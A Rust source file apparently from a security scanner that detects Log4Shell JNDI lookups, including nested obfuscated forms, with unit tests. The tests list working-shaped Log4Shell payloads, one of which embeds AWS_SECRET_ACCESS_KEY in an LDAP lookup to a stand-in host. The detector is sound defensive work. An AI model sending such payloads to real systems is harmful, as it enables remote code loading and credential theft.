//! JNDI lookups (Log4Shell, CVE-2021-44228): a Log4j 2 lookup `${...}` whose name resolves to
//! `jndi:`.
//!
//! Log4j resolves nested lookups before the outer one, which is how payloads hide the word:
//! `${${lower:j}ndi:..}`, `${${::-j}${::-n}di:..}`, `${${env:X:-j}ndi:..}`,
//! `${${date:'j'}ndi:..}`. The name is resolved here as Log4j would for those cases (the
//! default after `:-`, the argument of `lower`, `upper` and `date`), without evaluating any
//! other lookup (an unknown one resolves to nothing), then compared with `jndi:`.
use super::Meter;

/// Nesting deeper than this is read as text (Log4j itself stops recursing far earlier).
const MAX_DEPTH: usize = 8;
/// How much of a resolved text is kept: enough for `jndi:` behind a lookup's own name
/// (`lower:` + `jndi:`, nested: `${lower:${lower:jndi}}:`).
const KEEP: usize = 16;

#[inline(never)] // See `detect` in mod.rs.
pub(crate) fn detect(s: &str, meter: &mut Meter) -> Option<usize> {
    let v = s.as_bytes();
    meter.add(v.len());
    let mut i = 0;
    while i + 1 < v.len() {
        if v[i] == b'$' && v[i + 1] == b'{' {
            let mut name = Name::default();
            let end = lookup(v, i + 2, 0, &mut name);
            if name.is_jndi() {
                return Some(i);
            }
            // Nested lookups were read with their outer one: go on after it.
            i = end.max(i + 2);
            continue;
        }
        i += 1;
    }
    None
}

/// The first bytes of a resolved name, lowercase, spaces dropped.
#[derive(Default)]
struct Name {
    bytes: [u8; KEEP],
    len: usize,
}

impl Name {
    fn push(&mut self, c: u8) {
        if self.len < KEEP && !c.is_ascii_whitespace() {
            self.bytes[self.len] = c.to_ascii_lowercase();
            self.len += 1;
        }
    }

    fn is_jndi(&self) -> bool {
        self.bytes[..self.len].starts_with(b"jndi:")
    }
}

/// Reads the lookup whose text starts at `i` (just after `${`) up to its `}`; writes what it
/// resolves to into `out` and returns the index after the `}`.
fn lookup(v: &[u8], mut i: usize, depth: usize, out: &mut Name) -> usize {
    // The lookup's own text, its nested lookups already resolved.
    let mut text = Name::default();
    // Where `:-` (a default value) starts in the resolved text, if it has one.
    let mut default_from: Option<usize> = None;
    let mut default = Name::default();
    while i < v.len() {
        match v[i] {
            b'}' => {
                resolve(&text, default_from.map(|_| &default), out);
                return i + 1;
            }
            b'$' if v.get(i + 1) == Some(&b'{') && depth < MAX_DEPTH => {
                let mut nested = Name::default();
                i = lookup(v, i + 2, depth + 1, &mut nested);
                for c in &nested.bytes[..nested.len] {
                    text.push(*c);
                    if default_from.is_some() {
                        default.push(*c);
                    }
                }
                continue;
            }
            b':' if v.get(i + 1) == Some(&b'-') && default_from.is_none() => {
                default_from = Some(text.len);
                i += 2;
                continue;
            }
            c => {
                text.push(c);
                if default_from.is_some() {
                    default.push(c);
                }
            }
        }
        i += 1;
    }
    // Unclosed: Log4j leaves it as text; read what there is (a payload cut by a limit).
    resolve(&text, default_from.map(|_| &default), out);
    v.len()
}

/// What a lookup with resolved text `text` yields: its default, the argument of a case or
/// date lookup, the text itself for `jndi:`, nothing for any other lookup.
fn resolve(text: &Name, default: Option<&Name>, out: &mut Name) {
    let t = &text.bytes[..text.len];
    if t.starts_with(b"jndi:") {
        t.iter().for_each(|c| out.push(*c));
        return;
    }
    if let Some(d) = default {
        d.bytes[..d.len].iter().for_each(|c| out.push(*c));
        return;
    }
    for prefix in [&b"lower:"[..], b"upper:", b"date:"] {
        if let Some(arg) = t.strip_prefix(prefix) {
            arg.iter()
                .filter(|c| **c != b'\'')
                .for_each(|c| out.push(*c));
            return;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(s: &str) -> bool {
        detect(s, &mut Meter::default()).is_some()
    }

    #[test]
    fn lookups_that_resolve_to_jndi() {
        for s in [
            "${jndi:ldap://x.example/a}",
            "${JNDI:rmi://x.example/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${upper:j}${upper:n}${lower:d}i:dns://x}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
            "User-Agent: ${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.x.example/a}",
            "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x}",
            "${${lower:${lower:jndi}}:${lower:rmi}://x/a}",
        ] {
            assert!(hit(s), "{s}");
        }
    }

    #[test]
    fn other_lookups_and_shell_variables_are_not_jndi() {
        for s in [
            "${HOME}/bin",
            "${env:USER}",
            "${java:version}",
            "${lower:JNDI}",
            "jndi:ldap://x",
            "$ {jndi:ldap://x}",
            "${${::-j}ndx:ldap://x}",
        ] {
            assert!(!hit(s), "{s}");
        }
    }
}
